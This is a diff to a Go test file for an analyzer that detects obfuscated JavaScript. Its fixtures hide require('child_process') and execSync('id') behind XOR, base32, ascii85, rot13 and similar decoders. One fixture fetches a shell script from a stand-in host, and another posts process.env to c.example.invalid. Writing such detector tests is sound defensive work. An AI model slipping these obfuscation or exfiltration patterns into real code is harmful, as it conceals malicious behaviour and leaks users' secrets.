@@ -351,6 +351,7 @@ func TestCallsInDisguise(t *testing.T) {
 		"escaped name":           {`\u0065val("1+1"); require("child_process").\u0065xecSync("id")`, "child_process.execSync", "id"},
 		"escaped global":         {`\u{65}val(x)`, "eval", ""},
 		"with module":            {`with (require("child_process")) { execSync("id") }`, "child_process.execSync", "id"},
+		"with object":            {`var cp = require("child_process"); var ops = { run: cp.execSync, log: console.log }; with (ops) { run("id") }`, "child_process.execSync", "id"},
 		"Reflect.get":            {`const cp = require("child_process"); Reflect.get(cp, "exec" + "Sync")("id")`, "child_process.execSync", "id"},
 		"tagged template":        {"const { execSync } = require('child_process'); execSync`id`", "child_process.execSync", "id"},
 		"worker eval":            {`const { Worker } = require("worker_threads"); new Worker("require('os')", { eval: true })`, "worker_threads.Worker.eval", "require('os')"},
@@ -1916,7 +1917,9 @@ func TestOwnByteDecoder(t *testing.T) {
 		}
 		return ""
 	}
-	a85 := `function a85(s) { const out = []; for (let i = 0; i < s.length; i += 5) { let n = 0; for (let j = 0; j < 5; j++) n = n * 85 + (s.charCodeAt(i + j) - 33); out.push(n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255); } return Buffer.from(out).toString(); }
+	// (a decoder the interpreter does not run, for the global it reads:
+	// see TestInterpretedDecoders for one it runs)
+	a85 := `function a85(s) { if (typeof TextDecoder == "undefined") s = s.trim(); const out = []; for (let i = 0; i < s.length; i += 5) { let n = 0; for (let j = 0; j < 5; j++) n = n * 85 + (s.charCodeAt(i + j) - 33); out.push(n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255); } return Buffer.from(out).toString(); }
 const K = ["@q]RmA7':rDe!@"];
 `
 	if got := decodes(a85 + `require(a85(K[0]));`); got != "a85(), which turns character codes into bytes" {
@@ -1926,6 +1929,84 @@ const K = ["@q]RmA7':rDe!@"];
 `
 	if got := decodes(hash + `require(h("x"));`); got != "" {
 		t.Errorf("a hash taken for a decoder: %q", got)
+	}
+}
+
+// Decoders of the package's own that no folding shape fits, run over
+// their constant input (interp.go).
+const (
+	testA85 = `function a85(s) { const out = []; for (let i = 0; i < s.length; i += 5) { let n = 0; for (let j = 0; j < 5; j++) n = n * 85 + (s.charCodeAt(i + j) - 33); out.push(n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255); } return Buffer.from(out).toString(); }
+`
+	testB32 = `const A = "QWERTYUIOPASDFGHJKLZXCVBNM234567"; function b32(s) { let bits = 0, v = 0, out = ""; for (const c of s) { v = (v << 5) | A.indexOf(c); bits += 5; if (bits >= 8) { out += String.fromCharCode((v >>> (bits - 8)) & 255); bits -= 8 } } return out }
+`
+	testLZ = `function inflate(s) { let o = ""; for (let i = 0; i < s.length; ) { if (s[i] === "~") { const d = parseInt(s[i + 1], 36), l = parseInt(s[i + 2], 36); for (let j = 0; j < l; j++) o += o[o.length - d]; i += 3 } else o += s[i++] } return o }
+`
+)
+
+func TestInterpretedDecoders(t *testing.T) {
+	decoded := func(f *Facts, want string) bool {
+		return slices.ContainsFunc(f.Strings, func(s Str) bool { return s.Value == want && s.Decoded })
+	}
+	tests := []struct{ name, src, want string }{
+		{"ascii85", testA85 + `const U = "BQS?8F#ks-G^1oQG[YH.Ch55:ATTS6@P2_8"; fetch(a85(U))`, "https://xy.example.net/ab.sh"},
+		{"base32_own_alphabet", testB32 + `require(b32("DFXUL3RTS5NIT33RDCMBU"))`, "child_process"},
+		{"keyed_xor_table", `const T = [8, 91, 16, 7, 87, 38, 27, 65, 22, 8, 86, 10, 24]; function x(t, k) { let s = ""; for (let i = 0; i < t.length; i++) s += String.fromCharCode(t[i] ^ k.charCodeAt(i % k.length)); return s } require(x(T, "k3y"))`, "child_process"},
+		{"lz_backrefs", testLZ + `require(inflate("child_proces~11"))`, "child_process"},
+		{"rot13_regexp_callback", `function rot(s) { return s.replace(/[a-z]/gi, (ch) => { const base = ch <= "Z" ? 65 : 97; return String.fromCharCode(((ch.charCodeAt(0) - base + 13) % 26) + base) }) }
+const M = { t: "puvyq_cebprff" }; let n = 0; for (const k in M) n++; require(rot(M.t))`, "child_process"},
+		{"hex_pairs_matched", `function h(s) { return s.match(/../g).map((p) => String.fromCharCode(parseInt(p, 16))).join("") } require(h("6368696c645f70726f63657373"))`, "child_process"},
+		{"tag_reversing_parts", "function kw(strings) { return strings.raw.map((s) => [...s].reverse().join(\"\")).reverse().join(\"\") }\nrequire(kw`ssecorp_${0}dlihc`)", "child_process"},
+		// integer keys enumerate in ascending order, whatever order they
+		// were written in
+		{"integer_key_order", `const T = { 8: "ss", 2: "ld_", 1: "chi", 4: "proce" }; function render(t) { let s = ""; for (const k in t) s += t[k]; return s.split("").reverse().reverse().join("") } require(render(T))`, "child_process"},
+		{"reduce_and_helpers", `const rot = (c, n) => String.fromCharCode((c.charCodeAt(0) - 97 + n) % 26 + 97); const d = (s, n) => s.split("").map((c) => (c === "_" ? c : rot(c, n))).reduce((a, b) => a + b, ""); require(d("puvyq_cebprff", 13))`, "child_process"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			f := Analyze("x.js", []byte(tc.src), DefaultLimits())
+			if !decoded(f, tc.want) {
+				t.Errorf("no decoded string %q; strings %+v (parse error %q)", tc.want, f.Strings, f.ParseError)
+			}
+		})
+	}
+	// what the run cannot know, or never ends, gives nothing
+	for name, src := range map[string]string{
+		"reads_the_page": `function d(s) { let o = ""; for (const c of s) o += String.fromCharCode(c.charCodeAt(0) ^ document.cookie.length); return o } require(d("abc"))`,
+		"endless":        `function d(s) { let o = ""; while (true) o += String.fromCharCode(s.charCodeAt(0) ^ 1); return o } require(d("a"))`,
+		"input_unknown":  testB32 + `require(b32(process.argv[2]))`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			for _, im := range Analyze("x.js", []byte(src), DefaultLimits()).Imports {
+				if im.Module != "" {
+					t.Errorf("import %q", im.Module)
+				}
+			}
+		})
+	}
+}
+
+// TestInterpretedDecoderOfModule: a decoder another module exports runs
+// where it is called, with that module's constants.
+func TestInterpretedDecoderOfModule(t *testing.T) {
+	a := Analyze("lib/b32.js", []byte(testB32+`module.exports = { b32 };`), DefaultLimits())
+	if a.ExportHelpers["b32"] == "" {
+		t.Fatalf("b32 not exported: %q", a.ExportHelpers)
+	}
+	lim := DefaultLimits()
+	lim.ModuleHelper = func(from, spec, prop string) (string, bool) {
+		if spec != "./lib/b32" {
+			return "", false
+		}
+		src, ok := a.ExportHelpers[prop]
+		return src, ok
+	}
+	for _, src := range []string{
+		`const { b32 } = require("./lib/b32"); require(b32("DFXUL3RTS5NIT33RDCMBU"))`,
+		`const L = require("./lib/b32"); require(L.b32("DFXUL3RTS5NIT33RDCMBU"))`,
+	} {
+		if f := Analyze("index.js", []byte(src), lim); !hasImport(f, "child_process") {
+			t.Errorf("%s: imports %+v", src, f.Imports)
+		}
 	}
 }
 
@@ -2410,6 +2491,53 @@ function send(name) { const d = M(0x11); d[_(0x12)](name, () => {}) }`), lim)
 // An ES module's exported constants are its export properties, as
 // exports.X = … would be; those inside functions or exported by default
 // are not.
+// TestFrozenExportProps: Object.freeze (seal, preventExtensions) returns
+// the object it is given, so its constants are exported as they are.
+func TestFrozenExportProps(t *testing.T) {
+	g := Analyze("c.js", []byte(`module.exports = Object.freeze({ PREFIX: "ht", VER: "tps", LIMITS: Object.seal({ host: "c.example" + ".invalid" }) });
+exports.X = (Object.preventExtensions("a" + "b")); exports.Y = Object.freeze(a, b);`), DefaultLimits())
+	want := map[string]string{"PREFIX": "ht", "VER": "tps", "LIMITS.host": "c.example.invalid", "X": "ab"}
+	if diff := cmp.Diff(want, g.ExportProps); diff != "" {
+		t.Errorf("export props (-want +got):\n%s", diff)
+	}
+}
+
+// TestNestedModuleMembers: an object of the module exported by name
+// exports its constants two levels down, and a name bound to such an
+// object of another module (const { maintenance: M } = require("./k"))
+// reads them.
+func TestNestedModuleMembers(t *testing.T) {
+	k := Analyze("k.js", []byte(`const maintenance = { driver: "child_" + "process", shell: ["/bin", "sh"].join("/") }; module.exports = { maintenance };`), DefaultLimits())
+	if diff := cmp.Diff(map[string]string{"maintenance.driver": "child_process", "maintenance.shell": "/bin/sh"}, k.ExportProps); diff != "" {
+		t.Errorf("export props (-want +got):\n%s", diff)
+	}
+	lim := DefaultLimits()
+	lim.Module = func(from, spec, prop string) (string, bool) {
+		if spec != "./k" {
+			return "", false
+		}
+		v, ok := k.ExportProps[prop]
+		return v, ok
+	}
+	if f := Analyze("m.js", []byte(`const { maintenance: M } = require("./k"); require(M.driver)`), lim); !hasImport(f, "child_process") {
+		t.Errorf("imports %+v", f.Imports)
+	}
+}
+
+// TestDestructuredDefaults: the names of a destructured parameter hold
+// their defaults when the caller leaves them out, and the rest of one
+// defaulting to the environment is the environment's.
+func TestDestructuredDefaults(t *testing.T) {
+	f := Analyze("c.js", []byte(`function restore(env, { proto = "ht" + "tps", transport = require(proto) } = {}) { transport.request({ host: "c.example.invalid" }) }`), DefaultLimits())
+	if hasCall(f, "https.request") == nil {
+		t.Errorf("calls %+v", f.Calls)
+	}
+	g := Analyze("p.js", []byte(`function ctx({ CI, ...rest } = process.env) { require("https").request({ host: "c.example.invalid" }).end(JSON.stringify(rest)) }`), DefaultLimits())
+	if !slices.ContainsFunc(g.Env, func(e EnvRead) bool { return strings.HasPrefix(e.How, "sent:") }) {
+		t.Errorf("env %+v", g.Env)
+	}
+}
+
 func TestESMExportProps(t *testing.T) {
 	g := Analyze("b.js", []byte(`export const CODES = [104, 116]; export const HOST = ["c", "example.invalid"].join("."); export let n = f(); export default "x"; function f() { return 1 }`), DefaultLimits())
 	if diff := cmp.Diff(map[string]string{"HOST": "c.example.invalid"}, g.ExportProps); diff != "" {
